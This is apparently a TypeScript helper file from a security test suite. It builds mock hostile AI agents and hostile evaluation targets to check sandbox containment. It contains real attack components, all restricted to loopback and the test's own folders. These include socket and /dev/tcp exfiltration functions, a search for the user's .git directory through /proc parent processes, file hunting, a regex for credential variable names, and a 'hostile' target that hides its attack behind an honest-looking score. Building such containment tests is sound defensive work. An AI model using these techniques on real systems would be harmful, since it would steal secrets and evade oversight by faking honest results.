// Building blocks of hostile agents (shell) and hostile evals (JS in the target file).
import type { ScenarioContext } from "../../helpers/security-types.ts";

/** An honest target: the eval's score is `n`. */
export const honest = (n: number) => `exports.score = () => ${n};\n`;

/** A shell snippet that writes `content` to `path` (relative to the agent's cwd, or absolute). */
export function shWrite(path: string, content: string): string {
  const body = content.endsWith("\n") ? content : `${content}\n`;
  return `mkdir -p "$(dirname '${path}')"\ncat > '${path}' <<'__AUTOEXP_EOF__'\n${body}__AUTOEXP_EOF__\n`;
}

/** The last line an agent prints is its description. */
export const say = (description: string) => `echo '${description.replace(/'/g, "")}'\n`;

/**
 * A witness's line: `AUTOEXP-BEACON <runId> <step>: <what was tried: the result>`. Hostile code
 * sends one per attack step over every channel it may have: the loopback port (works from inside
 * an agent or eval sandbox while the network is on), its own stderr (the agent's log, the eval's
 * log and log tail in the tag's state folder and record) and ctx.beaconFile (when visible). The
 * judge gathers them from all of these.
 */
export const BEACON = "AUTOEXP-BEACON";

/** A Node program for the loopback port: sends argv[1]; for "ASK ..." prints the answer. */
const CLIENT = `const [line, port] = process.argv.slice(1); const s = require("node:net").connect(Number(port), "127.0.0.1", () => { s.write(line + "\\n"); if (!line.startsWith("ASK ")) s.end(); }); let out = ""; s.on("data", (c) => { out += c; }); s.on("end", () => process.stdout.write(out)); s.on("error", () => process.exit(1)); s.setTimeout(3000, () => { s.destroy(); process.exit(1); });`;

/**
 * Shell functions every agent script starts with (see security-run.ts):
 * - `beacon STEP RESULT`: a witness line;
 * - `attempt STEP COMMAND...`: runs the command and sends "ok (output)" or "failed, exit N: output";
 * - `ask QUESTION`: the test's answer (`next`: this call's number; `decoy`: the decoy's pid file).
 */
export function agentPrelude(ctx: ScenarioContext): string {
  return `__SEC_RUN='${ctx.runId}'
__SEC_PORT=${ctx.exfilPort}
__SEC_FILE='${ctx.beaconFile}'
__SEC_CLIENT='${CLIENT}'
__sec_send() {
  node -e "$__SEC_CLIENT" "$1" "$__SEC_PORT" 2>/dev/null && return 0
  bash -c 'printf "%s\n" "$1" > "/dev/tcp/127.0.0.1/$2"' _ "$1" "$__SEC_PORT" 2>/dev/null
}
beacon() {
  __l="${BEACON} $__SEC_RUN $1: $(printf '%s' "$2" | tr '\n' ' ' | cut -c1-300)"
  printf '%s\n' "$__l" >&2
  printf '%s\n' "$__l" >> "$__SEC_FILE" 2>/dev/null
  __sec_send "$__l" >/dev/null
  return 0
}
attempt() {
  __s=$1; shift
  __o=$("$@" 2>&1); __c=$?
  if [ $__c -eq 0 ]; then beacon "$__s" "ok\${__o:+ ($__o)}"; else beacon "$__s" "failed, exit $__c: $__o"; fi
  return $__c
}
ask() { node -e "$__SEC_CLIENT" "ASK $__SEC_RUN $1" "$__SEC_PORT" 2>/dev/null; }
`;
}

/**
 * Helpers every hostile eval starts with: __exfil sends text to the test's loopback listener,
 * __gitDirs finds the user's .git the way an attacker would (git itself, the path it runs under,
 * and the working directories of its ancestors: autoexp runs in the user's repository),
 * __findFiles looks for a file name under the cwd and under every <git dir>/autoexp.
 */
export function prelude(ctx: ScenarioContext): string {
  return `const __fs = require("node:fs");
const __cp = require("node:child_process");
const __path = require("node:path");
const __PORT = ${ctx.exfilPort};
function __exfil(text) {
  try {
    __cp.execFileSync(process.execPath, ["-e", "const s=require('node:net').connect(+process.argv[2],'127.0.0.1',()=>s.end(process.argv[1]));s.on('error',()=>{});s.setTimeout(1500,()=>s.destroy())", String(text), String(__PORT)], { timeout: 4000, stdio: "ignore" });
  } catch {}
}
function __gitDirs() {
  const found = new Set();
  // Only this run's own repository: the test's safety, not a limit an attacker would respect.
  const add = (d) => { try { const r = __fs.realpathSync(d); if (${ours(ctx)}.some((o) => r.startsWith(o)) && __fs.statSync(__path.join(r, "objects")).isDirectory()) found.add(r); } catch {} };
  try {
    const out = __cp.execFileSync("git", ["rev-parse", "--path-format=absolute", "--git-common-dir"], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();
    if (out) add(out);
  } catch {}
  const walk = (start) => {
    let d = start;
    for (let i = 0; i < 40; i++) {
      const parts = d.split(__path.sep);
      const at = parts.lastIndexOf(".git");
      if (at > 0) add(parts.slice(0, at + 1).join(__path.sep));
      add(__path.join(d, ".git"));
      const up = __path.dirname(d);
      if (up === d) break;
      d = up;
    }
  };
  walk(process.cwd());
  let pid = process.ppid;
  for (let i = 0; i < 12 && pid > 1; i++) {
    try { walk(__fs.readlinkSync("/proc/" + pid + "/cwd")); } catch {}
    try { pid = Number(/PPid:\\s+(\\d+)/.exec(__fs.readFileSync("/proc/" + pid + "/status", "utf8"))[1]); } catch { break; }
  }
  return [...found];
}
function __findFiles(name) {
  const out = new Set();
  const visit = (dir, depth) => {
    if (depth > 8) return;
    let entries;
    try { entries = __fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
    for (const e of entries) {
      const p = __path.join(dir, e.name);
      if (e.isDirectory()) { if (e.name !== "objects" && e.name !== "node_modules") visit(p, depth + 1); }
      else if (e.name === name) out.add(p);
    }
  };
  visit(process.cwd(), 0);
  for (const g of __gitDirs()) visit(__path.join(g, "autoexp"), 0);
  return [...out];
}
function __beacon(step, result) {
  const line = ${JSON.stringify(`${BEACON} ${ctx.runId} `)} + step + ": " + String(result).replace(/\\s+/g, " ").slice(0, 300);
  try { __fs.writeSync(2, line + "\\n"); } catch {}
  try { __fs.appendFileSync(${JSON.stringify(ctx.beaconFile)}, line + "\\n"); } catch {}
  __exfil(line);
}
/** Runs an attack step and reports it: "ok <what it returned>" or the error's code or message. */
function __try(step, fn) {
  try {
    const r = fn();
    __beacon(step, "ok" + (r === undefined ? "" : " " + (typeof r === "string" ? r : JSON.stringify(r))));
    return r;
  } catch (e) {
    __beacon(step, "failed: " + ((e && e.code) || String((e && e.message) || e)));
    return undefined;
  }
}
/** The test's answer to a question (see agentPrelude's ask), "" when it cannot be reached. */
function __ask(question) {
  try {
    return __cp.execFileSync(process.execPath, ["-e", ${JSON.stringify(CLIENT)}, "ASK ${ctx.runId} " + question, String(__PORT)], { encoding: "utf8", timeout: 4000, stdio: ["ignore", "pipe", "ignore"] });
  } catch { return ""; }
}
function __git(gitDir, args) {
  try { return __cp.execFileSync("git", ["--git-dir", gitDir, ...args], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }); } catch { return null; }
}
`;
}

/**
 * A JS array literal of the folders this run owns (its root under /tmp, its folder under
 * /var/tmp, where the repository is): hostile code touches no git directory outside them.
 */
export const ours = (ctx: ScenarioContext) => JSON.stringify([`${ctx.root}/`, `${ctx.outside}/`]);

/**
 * A shell snippet that sets $gitdir to the user's .git as an agent would find it (the path its
 * checkout lies under, else the repository's known place), or to "" (only this run's own).
 */
export function findGitDir(ctx: ScenarioContext): string {
  return `gitdir=""; d=$(pwd -P)
while [ -n "$d" ] && [ "$d" != / ]; do
  case "$d" in */.git) [ -d "$d/objects" ] && { gitdir=$d; break; } ;; esac
  d=$(dirname "$d")
done
[ -z "$gitdir" ] && [ -d '${ctx.repo}/.git/objects' ] && gitdir='${ctx.repo}/.git'
case "$gitdir" in '${ctx.root}'/*|'${ctx.outside}'/*) ;; *) gitdir="" ;; esac
`;
}

/** A hostile target: the prelude, the attack, then an honest-looking score. */
export function hostile(ctx: ScenarioContext, attack: string, score = 10): string {
  return `${prelude(ctx)}\n// --- the attack ---\n${attack}\nexports.score = () => ${score};\n`;
}

/** A JS regular expression literal matching credential-like variable names. */
export const SECRET_NAME = "/KEY|TOKEN|SECRET|PASSW|AUTH|AWS_|WANDB|COHERE|HUGGING|HF_/";
